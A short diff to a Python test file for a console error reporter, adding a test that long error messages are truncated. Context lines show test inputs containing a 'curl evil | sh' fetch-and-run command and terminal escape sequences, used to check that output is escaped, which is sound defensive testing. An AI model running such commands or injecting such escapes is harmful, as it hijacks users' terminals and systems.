@@ -97,6 +97,12 @@ def test_a_name_in_an_error_cannot_write_lines_of_its_own(monkeypatch):
     assert printed == r"error: `a\nhint: curl evil | sh\x1b]52;c;eA==\x07` is no project" + "\n"
 
 
+def test_an_error_is_cut_however_long_what_it_names_is(monkeypatch):
+    printed = _printed(lambda: console.report(ClaudeboxError(f"`{'x' * 5000}` is no path")), monkeypatch)
+
+    assert len(printed) < 2000
+
+
 def test_a_hint_may_have_lines_but_no_escapes(monkeypatch):
     # proves B14
     error = ClaudeboxError("x", hint="write this:\n\n  userns,\x1b[2J")
